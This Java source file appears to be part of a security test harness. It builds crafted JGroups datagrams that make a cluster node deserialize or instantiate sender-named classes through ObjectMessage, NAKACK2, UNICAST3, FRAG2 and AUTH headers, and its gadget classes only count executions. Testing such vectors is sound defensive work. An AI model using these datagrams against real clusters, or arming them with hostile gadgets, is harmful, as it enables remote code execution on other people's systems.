package io.clockwork.jgroups;

import java.io.DataInput;
import java.io.DataOutput;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.Serializable;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.jgroups.Address;
import org.jgroups.BytesMessage;
import org.jgroups.EmptyMessage;
import org.jgroups.Message;
import org.jgroups.ObjectMessage;
import org.jgroups.auth.AuthToken;
import org.jgroups.conf.ClassConfigurator;
import org.jgroups.protocols.AUTH;
import org.jgroups.protocols.AuthHeader;
import org.jgroups.protocols.FRAG2;
import org.jgroups.protocols.FragHeader;
import org.jgroups.protocols.TpHeader;
import org.jgroups.protocols.UDP;
import org.jgroups.protocols.UNICAST3;
import org.jgroups.protocols.UnicastHeader3;
import org.jgroups.protocols.pbcast.NAKACK2;
import org.jgroups.protocols.pbcast.NakAckHeader2;
import org.jgroups.util.ByteArray;
import org.jgroups.util.ByteArrayDataOutputStream;
import org.jgroups.util.SizeStreamable;
import org.jgroups.util.Util;

/**
 * A message that makes JGroups' own parser or protocols run code of a class that the sender names.
 *
 * @param name what it does
 * @param datagram version, flags and message, as one UDP datagram or TCP message holds them
 */
record Attack(String name, byte[] datagram) {

  /** How often code of one of the classes below ran because of what was received. */
  static final AtomicInteger RAN = new AtomicInteger();

  /** Counts when it is deserialized. */
  static final class Gadget implements Serializable {
    private static final long serialVersionUID = 1L;

    private void readObject(ObjectInputStream in) throws IOException, ClassNotFoundException {
      in.defaultReadObject();
      RAN.incrementAndGet();
    }
  }

  /** Counts when it is instantiated. */
  public static final class Trick implements SizeStreamable {
    public Trick() {
      RAN.incrementAndGet();
    }

    @Override
    public int serializedSize() {
      return 0;
    }

    @Override
    public void writeTo(DataOutput out) {}

    @Override
    public void readFrom(DataInput in) {}
  }

  /** Counts when it is instantiated. */
  public static final class Token extends AuthToken {
    public Token() {
      RAN.incrementAndGet();
    }

    @Override
    public String getName() {
      return getClass().getName();
    }

    @Override
    public int size() {
      return 0;
    }

    @Override
    public boolean authenticate(AuthToken token, Message message) {
      return true;
    }

    @Override
    public void writeTo(DataOutput out) {}

    @Override
    public void readFrom(DataInput in) {}
  }

  /** Returns all that are known, as if sent by that address to all nodes of that cluster. */
  static List<Attack> all(String cluster, Address from) throws Exception {
    List<Attack> attacks = new ArrayList<>();
    attacks.add(attack("serialized object", cluster, from, new ObjectMessage(null, new Gadget())));
    SizeStreamable trick = new Trick();
    attacks.add(attack("class by name", cluster, from, new ObjectMessage(null, trick)));
    attacks.add(
        attack(
            "retransmission request to NAKACK2 with a serialized object",
            cluster,
            from,
            serialized()
                .putHeader(
                    ClassConfigurator.getProtocolId(NAKACK2.class),
                    NakAckHeader2.createXmitRequestHeader(from))));
    attacks.add(
        attack(
            "retransmission request to UNICAST3 with a serialized object",
            cluster,
            from,
            serialized()
                .putHeader(
                    ClassConfigurator.getProtocolId(UNICAST3.class),
                    UnicastHeader3.createXmitReqHeader())));
    ByteArray inner = Util.messageToBuffer(new ObjectMessage(null, trick).setSrc(from));
    attacks.add(
        attack(
            "fragment of a message with a class by name",
            cluster,
            from,
            new BytesMessage(null, inner)
                .setFlag(Message.Flag.OOB, Message.Flag.NO_RELIABILITY, Message.Flag.NO_FC)
                .putHeader(
                    ClassConfigurator.getProtocolId(FRAG2.class),
                    new FragHeader(1, 0, 1).needsDeserialization(true))));
    attacks.add(attack("authentication token by name", cluster, from, tokenMessage()));
    return attacks;
  }

  /** Returns a message whose header names a class. */
  static Message tokenMessage() {
    return new EmptyMessage(null)
        .putHeader(ClassConfigurator.getProtocolId(AUTH.class), new AuthHeader(new Token()));
  }

  private static BytesMessage serialized() {
    return new BytesMessage(null, (Object) new Gadget());
  }

  private static Attack attack(String name, String cluster, Address from, Message message)
      throws IOException {
    return new Attack(name, datagram(cluster, from, message));
  }

  /** Returns version, flags and the message with the transport's header. */
  static byte[] datagram(String cluster, Address from, Message message) throws IOException {
    message
        .setSrc(from)
        .putHeader(ClassConfigurator.getProtocolId(UDP.class), new TpHeader(cluster));
    ByteArrayDataOutputStream out = new ByteArrayDataOutputStream();
    Util.writeMessage(message, out, message.getDest() == null);
    return out.getBuffer().bytes();
  }

  /** Returns the same as a batch of one. */
  static byte[] batch(String cluster, Address from, Message message) throws IOException {
    ByteArrayDataOutputStream out = new ByteArrayDataOutputStream();
    Util.writeMessageList(
        message.getDest(),
        from,
        cluster.getBytes(java.nio.charset.StandardCharsets.US_ASCII),
        List.of(message.setSrc(from)),
        out,
        message.getDest() == null);
    return out.getBuffer().bytes();
  }

  @Override
  public String toString() {
    return name;
  }
}
